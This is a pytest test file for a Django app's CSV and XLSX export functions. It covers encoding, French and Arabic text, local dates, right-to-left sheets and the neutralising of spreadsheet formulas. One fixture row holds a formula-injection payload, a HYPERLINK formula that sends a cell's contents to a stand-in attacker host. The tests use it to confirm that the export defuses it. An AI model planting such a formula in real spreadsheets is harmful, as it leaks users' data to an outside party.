"""Exports: nothing in a cell runs as a formula, and the files open right in Excel, French and Arabic."""

import codecs
import csv
import io
import zipfile
from datetime import UTC, date, datetime
from xml.etree import ElementTree

import pytest
from django.utils.translation import override

from pmpp.exports import csv_response, neutralise, xlsx_response

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HEADER = ["Référence", "Nom", "Reçue le", "Échéance", "Montant"]
# 12:00 UTC on 15 June 2025 is 13:00 in Casablanca (UTC+1 outside Ramadan).
RECEIVED = datetime(2025, 6, 15, 12, 0, tzinfo=UTC)
DUE = date(2025, 6, 30)
ROWS = [
    ["TAY-2025-000001", "Fatima Zahra El Amrani", RECEIVED, DUE, -5],
    ["TAY-2025-000002", "فاطمة الزهراء العمراني", None, DUE, 1200.5],
    ["TAY-2025-000003", '=HYPERLINK("http://evil.example/?d="&A1,"Voir")', None, None, 0],
    ["TAY-2025-000004", "=1+1", None, None, 3],
]


# --- neutralise ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+33 6 12", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_neutralise_quotes_text_that_starts_with_a_formula_character(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Paiement non reçu", "دفعة غير مستلمة", "TAY-2025-000001", "a=b", ""])
def test_neutralise_leaves_ordinary_text_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [-5, 0, 42, -1.5, DUE, RECEIVED, None, True])
def test_neutralise_leaves_numbers_dates_and_other_values_typed(value):
    assert neutralise(value) is value


# --- CSV -------------------------------------------------------------------------------------------------


def _csv(response) -> tuple[bytes, list[list[str]]]:
    content = b"".join(response.streaming_content)
    return content, list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_csv_starts_with_the_utf8_bom_and_is_a_comma_separated_attachment():
    response = csv_response(filename="reclamations.csv", header=HEADER, rows=ROWS)
    content, _lines = _csv(response)

    assert content.startswith(codecs.BOM_UTF8)
    assert not content[3:].startswith(codecs.BOM_UTF8)
    assert content[3:].decode().splitlines()[0] == "Référence,Nom,Reçue le,Échéance,Montant"
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="reclamations.csv"'
    assert response.streaming


def test_the_csv_round_trips_french_and_arabic_text_and_writes_dates_in_casablanca_time():
    _content, lines = _csv(csv_response(filename="r.csv", header=HEADER, rows=ROWS))

    assert lines[0] == HEADER
    assert lines[1] == ["TAY-2025-000001", "Fatima Zahra El Amrani", "2025-06-15 13:00", "2025-06-30", "-5"]
    assert lines[2][1] == "فاطمة الزهراء العمراني"
    assert lines[2][2] == ""


def test_the_csv_neutralises_a_hyperlink_formula():
    _content, lines = _csv(csv_response(filename="r.csv", header=HEADER, rows=ROWS))

    assert lines[3][1] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Voir")'
    assert lines[4][1] == "'=1+1"
    assert all(not cell.startswith(("=", "+", "@")) for line in lines for cell in line)


def test_the_csv_is_produced_lazily_from_the_rows():
    consumed = []

    def rows():
        for number in range(3):
            consumed.append(number)
            yield [f"R{number}"]

    response = csv_response(filename="r.csv", header=["Référence"], rows=rows())
    assert consumed == []
    _content, lines = _csv(response)
    assert lines == [["Référence"], ["R0"], ["R1"], ["R2"]]


# --- XLSX ------------------------------------------------------------------------------------------------


def _xlsx(response) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(response.getvalue())) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist() if name.endswith(".xml")}


def _parse(xml: str) -> ElementTree.Element:
    return ElementTree.fromstring(xml)  # noqa: S314 — XML the export itself just wrote, not untrusted input


def _cells(parts: dict[str, str]) -> dict[str, ElementTree.Element]:
    sheet = _parse(parts["xl/worksheets/sheet1.xml"])
    return {cell.get("r"): cell for cell in sheet.iter(f"{MAIN}c")}


def _text(parts: dict[str, str], cell: ElementTree.Element) -> str:
    """The text of a string cell, shared (t="s") or inline (t="inlineStr")."""
    if cell.get("t") == "s":
        shared = _parse(parts["xl/sharedStrings.xml"]).findall(f"{MAIN}si")
        return "".join(t.text or "" for t in shared[int(cell.find(f"{MAIN}v").text)].iter(f"{MAIN}t"))
    assert cell.get("t") == "inlineStr", cell.attrib
    return "".join(t.text or "" for t in cell.iter(f"{MAIN}t"))


def test_the_xlsx_stores_formula_text_as_a_neutralised_string_and_has_no_formula():
    response = xlsx_response(filename="reclamations.xlsx", sheet_title="À traiter", header=HEADER, rows=ROWS)
    parts = _xlsx(response)
    cells = _cells(parts)

    assert _text(parts, cells["B5"]) == "'=1+1"
    assert _text(parts, cells["B4"]) == '\'=HYPERLINK("http://evil.example/?d="&A1,"Voir")'
    assert "<f>" not in parts["xl/worksheets/sheet1.xml"]
    assert "<f " not in parts["xl/worksheets/sheet1.xml"]
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="reclamations.xlsx"'


def test_the_xlsx_keeps_numbers_as_numbers_and_dates_as_local_dates():
    parts = _xlsx(xlsx_response(filename="r.xlsx", sheet_title="Export", header=HEADER, rows=ROWS))
    cells = _cells(parts)

    assert cells["E2"].get("t") is None
    assert float(cells["E2"].find(f"{MAIN}v").text) == -5
    assert float(cells["E3"].find(f"{MAIN}v").text) == 1200.5
    # Excel's serial date: days since 1899-12-30, here 15 June 2025 at 13:00 Casablanca time.
    expected = (datetime(2025, 6, 15, 13, 0) - datetime(1899, 12, 30)).total_seconds() / 86400
    assert float(cells["C2"].find(f"{MAIN}v").text) == pytest.approx(expected)
    assert cells["C2"].get("s")  # a date format, not a bare number
    assert float(cells["D2"].find(f"{MAIN}v").text) == (datetime(2025, 6, 30) - datetime(1899, 12, 30)).days


def test_the_xlsx_has_a_bold_frozen_header_and_french_and_arabic_text():
    parts = _xlsx(xlsx_response(filename="r.xlsx", sheet_title="À traiter", header=HEADER, rows=ROWS))
    cells = _cells(parts)
    sheet = parts["xl/worksheets/sheet1.xml"]

    assert [_text(parts, cells[f"{column}1"]) for column in "ABCDE"] == HEADER
    assert _text(parts, cells["B3"]) == "فاطمة الزهراء العمراني"
    assert 'state="frozen"' in sheet
    assert 'ySplit="1"' in sheet
    assert "<b/>" in parts["xl/styles.xml"]
    assert "<cols>" in sheet
    assert 'name="À traiter"' in parts["xl/workbook.xml"]


def test_an_arabic_user_gets_a_right_to_left_sheet():
    with override("ar"):
        arabic = _xlsx(xlsx_response(filename="r.xlsx", sheet_title="Export", header=HEADER, rows=ROWS))
    with override("fr"):
        french = _xlsx(xlsx_response(filename="r.xlsx", sheet_title="Export", header=HEADER, rows=ROWS))

    assert 'rightToLeft="1"' in arabic["xl/worksheets/sheet1.xml"]
    assert "rightToLeft" not in french["xl/worksheets/sheet1.xml"]


def test_a_sheet_title_excel_would_refuse_is_made_acceptable():
    parts = _xlsx(
        xlsx_response(
            filename="r.xlsx", sheet_title="Réclamations [en retard] : 2025/06 — toutes", header=["A"], rows=[]
        )
    )
    sheet_name = _parse(parts["xl/workbook.xml"]).find(f"{MAIN}sheets/{MAIN}sheet").get("name")
    assert len(sheet_name) <= 31
    assert not set("[]:*?/\\") & set(sheet_name)


@pytest.mark.django_db  # closing a response signals the end of a request, which touches the connections
def test_the_xlsx_is_streamed_from_a_temporary_file_that_disappears_when_sent():
    response = xlsx_response(filename="r.xlsx", sheet_title="Export", header=HEADER, rows=ROWS)
    assert response.streaming
    assert response["Content-Disposition"] == 'attachment; filename="r.xlsx"'
    source = response.file_to_stream
    assert response.getvalue().startswith(b"PK")
    response.close()
    assert source.closed
